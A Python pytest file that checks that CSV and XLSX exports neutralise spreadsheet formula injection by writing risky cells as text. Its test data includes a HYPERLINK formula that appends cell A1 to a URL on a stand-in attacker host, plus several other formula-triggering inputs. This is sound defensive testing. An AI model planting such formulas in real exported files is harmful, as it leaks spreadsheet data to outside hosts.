"""Exported cells that a spreadsheet would take for a formula are written as text."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from manyi.cells import csv_cell, xlsx_append
from manyi.web.review.exports import Table, to_csv, to_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
RISKY = [HYPERLINK, "+86 591", "-1+2", "@SUM(A1)", "\tcmd", "\r=1", "\x01名称"]


def _table() -> Table:
    return Table("申报", ["申报单位", "得分"], [[text, 90] for text in RISKY] + [["正常单位", -3]])


@pytest.mark.parametrize("text", RISKY)
def test_csv_puts_an_apostrophe_before_risky_text(text):
    assert csv_cell(text) == "'" + text


def test_csv_leaves_numbers_and_plain_text_alone():
    assert [csv_cell(v) for v in (-3, 2.5, "正常", None)] == [-3, 2.5, "正常", ""]


def test_the_csv_export_keeps_the_formula_as_text():
    text = to_csv(_table()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'" + HYPERLINK
    assert rows[-1] == ["正常单位", "-3"]


def test_the_xlsx_export_has_no_formula_cell():
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert all(cell.data_type == "s" for cell in cells)
    assert cells[0].value == HYPERLINK and cells[0].quotePrefix
    assert sheet.cell(row=len(RISKY) + 2, column=2).value == -3


def test_control_characters_do_not_break_the_xlsx_file():
    sheet = load_workbook(io.BytesIO(to_xlsx(_table()))).active
    assert sheet.cell(row=len(RISKY) + 1, column=1).value == "\\x01名称"


def test_the_survey_quality_records_keep_raw_values_as_text():
    from manyi.measurement.workbook import _sheet

    book = Workbook()
    _sheet(book, "查错记录", ["值"], [[HYPERLINK]])
    assert book["查错记录"]["A2"].data_type == "s"


def test_xlsx_append_writes_numbers_as_numbers():
    book = Workbook()
    xlsx_append(book.active, [1, 2.5, "x"])
    assert [c.data_type for c in book.active[1]] == ["n", "n", "s"]
